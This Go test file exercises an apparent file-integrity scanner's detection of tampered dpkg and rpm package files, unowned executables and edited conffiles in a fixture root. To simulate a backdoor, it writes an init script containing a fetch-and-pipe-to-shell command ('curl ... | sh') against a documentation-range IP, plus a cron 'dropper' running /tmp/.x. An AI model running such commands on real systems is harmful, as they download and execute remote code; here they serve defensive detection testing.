package main

import (
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/pkgtest"
	"github.com/tripline/tripline/internal/testenv"
)

// pkgFormat is how one package manager builds and installs the tests' packages.
type pkgFormat struct {
	name, typ string
	tools     []string
	prepare   func(t *testing.T, root string)
	build     func(t testing.TB, s pkgtest.Spec) string
	args      func(root, file string) []string // the install (or upgrade) command, argv[0] first
	version   func(v string) string            // the version the database records
}

var pkgFormats = []pkgFormat{
	{name: "dpkg", typ: "deb", tools: []string{"dpkg", "dpkg-deb"}, prepare: func(t *testing.T, root string) { pkgtest.DpkgRoot(t, root) },
		build: pkgtest.BuildDeb, args: func(root, f string) []string { return append([]string{"dpkg"}, pkgtest.DpkgArgs(root, f)...) },
		version: func(v string) string { return v }},
	{name: "rpm", typ: "rpm", tools: []string{"rpm", "rpmbuild"}, prepare: func(*testing.T, string) {},
		build: pkgtest.BuildRPM, args: func(root, f string) []string { return append([]string{"rpm"}, pkgtest.RPMArgs(root, f)...) },
		version: func(v string) string { return v + "-1" }},
}

// mergeUsr makes the fixture root's /lib a symlink to usr/lib, as a merged-/usr system has.
func mergeUsr(t *testing.T, fx *fixture) {
	if err := os.MkdirAll(fx.path("usr/lib"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("usr/lib", fx.path("lib")); err != nil {
		t.Fatal(err)
	}
}

func installPkg(t *testing.T, f pkgFormat, root, file string) {
	t.Helper()
	argv := f.args(root, file)
	if out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput(); err != nil {
		t.Fatalf("%v: %v\n%s", argv, err, out)
	}
}

// TestFirstScanAgainstPackages: a real package built by dpkg-deb (rpmbuild) and installed with
// dpkg --root (rpm --root). One of its files is altered before the first scan, which reports it
// as package-file-modified; an executable no package owns is unowned-executable; the intact
// files, one of them under the merged-/usr alias /lib, are verified and raise nothing.
func TestFirstScanAgainstPackages(t *testing.T) {
	testenv.RequireRoot(t)
	for _, f := range pkgFormats {
		t.Run(f.name, func(t *testing.T) {
			pkgtest.Need(t, f.tools...)
			fx := newFixture(t)
			mergeUsr(t, fx)
			f.prepare(t, fx.root)
			spec := pkgtest.Spec{Name: "tripline-pkg", Version: "1.0", Files: map[string]pkgtest.File{
				"/etc/cron.daily/tripline-pkg":                {Content: "#!/bin/sh\necho daily\n", Mode: 0o755},
				"/etc/init.d/tripline-pkg":                    {Content: "#!/bin/sh\necho init\n", Mode: 0o755},
				"/etc/cron.d/tripline-pkg":                    {Content: "0 * * * * root true\n", Mode: 0o644, Conffile: true},
				"/lib/systemd/system-generators/tripline-pkg": {Content: "#!/bin/sh\nexit 0\n", Mode: 0o755},
			}}
			installPkg(t, f, fx.root, f.build(t, spec))
			fx.write(t, "etc/init.d/tripline-pkg", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n", 0o755) // the backdoor
			fx.write(t, "etc/cron.daily/dropper", "#!/bin/sh\n/tmp/.x\n", 0o755)
			fx.write(t, "etc/cron.d/tripline-pkg", "0 3 * * * root true\n", 0o644) // the admin's edit

			r := tl(t, fx, "scan", "--format", "json")
			fs := findings(parseLines(t, r.stdout))
			mod := fs["/etc/init.d/tripline-pkg"]
			if mod == nil || mod["rule"] != "package-file-modified" || mod["severity"] != "high" || mod["verdict"] != "alert" || mod["kind"] != "present" {
				t.Errorf("altered package file: %v\n%s", mod, r.stdout)
			}
			if un := fs["/etc/cron.daily/dropper"]; un == nil || un["rule"] != "unowned-executable" || un["severity"] != "medium" {
				t.Errorf("unowned executable: %v", un)
			}
			if cf := fs["/etc/cron.d/tripline-pkg"]; cf == nil || cf["rule"] != "conffile-modified" || cf["severity"] != "info" || cf["verdict"] != "recorded" {
				t.Errorf("edited conffile: %v", cf)
			}
			for _, p := range []string{"/etc/cron.daily/tripline-pkg", "/usr/lib/systemd/system-generators/tripline-pkg"} {
				if fs[p] != nil {
					t.Errorf("%s is as its package shipped it, yet: %v", p, fs[p])
				}
			}
			if r.code&4 == 0 {
				t.Errorf("exit %d: want the changed bit for the altered package file", r.code)
			}

			// Every baseline path carries its package and state; the generator is found under
			// its merged-/usr alias.
			show := tl(t, fx, "baseline", "show", "--format", "json")
			states := map[string]string{}
			for _, l := range parseLines(t, show.stdout) {
				pkg, _ := l["package"].(map[string]any)
				if pkg == nil {
					continue
				}
				states[l["path"].(string)] = fmt.Sprintf("%v %v %v %v", pkg["name"], pkg["version"], pkg["type"], pkg["state"])
			}
			want := "tripline-pkg " + f.version("1.0") + " " + f.typ
			for p, w := range map[string]string{
				"/etc/init.d/tripline-pkg":                        want + " modified",
				"/etc/cron.daily/tripline-pkg":                    want + " verified",
				"/etc/cron.d/tripline-pkg":                        want + " conffile-modified",
				"/usr/lib/systemd/system-generators/tripline-pkg": want + " verified",
				"/etc/cron.daily/dropper":                         "<nil> <nil> <nil> unowned",
			} {
				if states[p] != w {
					t.Errorf("baseline show %s: %q, want %q", p, states[p], w)
				}
			}
			text := tl(t, fx, "baseline", "show")
			if !strings.Contains(text.stdout, want[:strings.LastIndex(want, " ")]+" ("+f.typ+")") {
				t.Errorf("baseline show (text) does not name the package:\n%s", text.stdout)
			}

			// A later scan still reports them, in ECS with package.name/version/type.
			r = tl(t, fx, "scan", "--format", "ecs")
			var sawMod, sawConf, sawUnowned bool
			for _, l := range parseLines(t, r.stdout) {
				file, _ := l["file"].(map[string]any)
				rule, _ := l["rule"].(map[string]any)
				pkg, _ := l["package"].(map[string]any)
				switch {
				case file["path"] == "/etc/init.d/tripline-pkg" && rule["id"] == "package-file-modified":
					sawMod = pkg != nil && pkg["name"] == "tripline-pkg" && pkg["version"] == f.version("1.0") && pkg["type"] == f.typ
				case file["path"] == "/etc/cron.d/tripline-pkg":
					tlf, _ := l["tripline"].(map[string]any)
					sawConf = rule["id"] == "conffile-modified" && tlf["verdict"] == "recorded"
				case file["path"] == "/etc/cron.daily/dropper" && rule["id"] == "unowned-executable":
					sawUnowned = pkg == nil
				}
			}
			if !sawMod || !sawConf || !sawUnowned {
				t.Errorf("second scan (ecs): modified %v, conffile %v, unowned %v\n%s", sawMod, sawConf, sawUnowned, r.stdout)
			}
		})
	}
}
